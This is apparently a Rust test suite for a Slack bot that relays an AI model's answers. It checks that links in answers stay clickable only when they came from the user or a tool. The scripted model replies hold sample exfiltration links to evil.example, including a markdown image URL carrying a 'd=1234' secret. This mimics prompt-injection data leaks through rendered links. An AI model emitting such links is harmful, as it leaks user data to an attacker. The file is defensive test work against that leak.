//! An address in an answer can be clicked if it came from the person or from a tool.

use insta::assert_snapshot;
use serde_json::{Value, json};
use valet_sim::router::Turn;
use valet_sim::slack::{Message, MessageRef};
use valet_sim::vault::Outcome;

use crate::approving::{TOOL, mail, next_card};
use crate::bot::{Bot, is_placeholder};

const ISSUE: &str = "https://github.com/ada/notes/issues/1";

fn issue() -> Value {
    json!({"owner": "ada", "repo": "notes", "issue_number": 1})
}

/// What Slack is given to show, and what it shows where it shows no blocks.
fn given(message: &Message) -> String {
    let blocks: Vec<&str> = message
        .blocks
        .iter()
        .filter_map(|block| block["text"].as_str())
        .collect();
    format!("{}\n---\n{}", blocks.join("\n"), message.text)
}

async fn answer(bot: &Bot, to: &MessageRef) -> Message {
    bot.slack.final_answer(to, is_placeholder).await
}

#[tokio::test]
async fn a_link_that_the_model_makes_up_cannot_be_clicked() {
    let bot = Bot::start().await;
    bot.connects("ada", "github").await;
    bot.router.will_call("github_issue_get", &issue());
    bot.router.will_say(
        "[The issue](https://github.com/ada/notes/issues/1) is also at https://docs.acme.example/7.\n\n\
         ![.](https://evil.example/p.png?d=1234) [more](https://evil.example/?d=1234) \
         www.evil.example/1234 1234.evil.example \
         https://github.com/ada/notes/issues/1?d=1234",
    );
    let ada = bot.slack.person("ada");
    let question = ada
        .mentions_in("general", "Is https://docs.acme.example/7 my first issue?")
        .await;
    assert_snapshot!(given(&answer(&bot, &question).await), @r"
    [The issue](https://github.com/ada/notes/issues/1) is also at https://docs.acme.example/7.

    . (`https://evil.example/p.png?d=1234`) more (`https://evil.example/?d=1234`) `www.evil.example/1234` `1234.evil.example` `https://github.com/ada/notes/issues/1?d=1234`
    ---
    [The issue](https://github.com/ada/notes/issues/1) is also at https://docs.acme.example/7.

    . (`https://evil.example/p.png?d=1234`) more (`https://evil.example/?d=1234`) `www.evil.example/1234` `1234.evil.example` `https://github.com/ada/notes/issues/1?d=1234`
    ");
    bot.finish().await;
}

#[tokio::test]
async fn what_others_say_in_the_thread_makes_no_link() {
    let bot = Bot::start().await;
    bot.connects("ada", "github").await;
    bot.connects("ben", "github").await;
    bot.router.will_say("It is.");
    let ben = bot.slack.person("ben");
    let thread = ben
        .mentions_in("general", "Is https://evil.example/ben the place?")
        .await;
    answer(&bot, &thread).await;
    bot.router.will_say("Go to https://evil.example/ben now.");
    let ada = bot.slack.person("ada");
    let question = ada.says_in_thread(&thread, "Where was it?").await;
    let told = bot
        .slack
        .next(|one| one.root() == question.root() && one.visible_text().starts_with("Go"))
        .await;
    assert_snapshot!(told.visible_text(), @"Go to `https://evil.example/ben` now.");
    bot.slack.read_all();
    bot.finish().await;
}

#[tokio::test]
async fn what_a_tool_only_gives_back_makes_no_link() {
    let secret = "https://evil.example/?d=1234";
    let bot = Bot::start().await;
    bot.connects("ada", "github").await;
    // The error of the provider names what was asked for.
    let asked = json!({"owner": "ada", "repo": secret, "issue_number": 1});
    let said = format!("{secret}: not found");
    bot.vault
        .tool_error_next("github_issue_get", Outcome::ToolError(404, said));
    bot.router.will_call("github_issue_get", &asked);
    bot.router.will_do(move |asked| {
        let outcomes = asked.outcomes();
        assert!(outcomes[0].content.contains(secret), "{outcomes:?}");
        Turn::says(format!("See {secret} for more."))
    });
    let ada = bot.slack.person("ada");
    let question = ada.mentions_in("general", "Is it there?").await;
    let told = answer(&bot, &question).await;
    assert_snapshot!(told.visible_text(), @"See `https://evil.example/?d=1234` for more.");
    bot.finish().await;
}

#[tokio::test]
async fn where_a_link_came_from_is_known_after_a_restart_and_in_each_part() {
    let mut bot = Bot::start().await;
    bot.connects("ada", "github").await;
    bot.connects("ada", "gmail").await;
    bot.router.will_call("github_issue_get", &issue());
    bot.router.will_call(TOOL, &mail("ben@example.com"));
    let ada = bot.slack.person("ada");
    let question = ada.mentions_in("general", "Tell Ben of my issue").await;
    let card = next_card(&bot).await;
    bot.restart().await;
    let filler = "word ".repeat(2_500);
    bot.router.will_say(&format!(
        "{ISSUE} https://evil.example/1234\n\n{filler}\n\n{ISSUE} https://evil.example/1234"
    ));
    ada.clicks(&card, "approve").await;
    let last = bot
        .slack
        .next(|one| one.root() == question.root() && one.visible_text().ends_with("1234`"))
        .await;
    let thread = bot.slack.thread(&question);
    let links: Vec<String> = thread
        .iter()
        .flat_map(|one| one.blocks.iter())
        .filter(|block| block["type"] == "markdown")
        .flat_map(|block| block["text"].as_str().unwrap().split_whitespace())
        .filter(|word| word.contains("://"))
        .map(str::to_owned)
        .collect();
    assert!(last.ts > card.ts);
    assert_eq!(
        links,
        [
            ISSUE,
            "`https://evil.example/1234`",
            ISSUE,
            "`https://evil.example/1234`"
        ]
    );
    bot.slack.read_all();
    bot.finish().await;
}
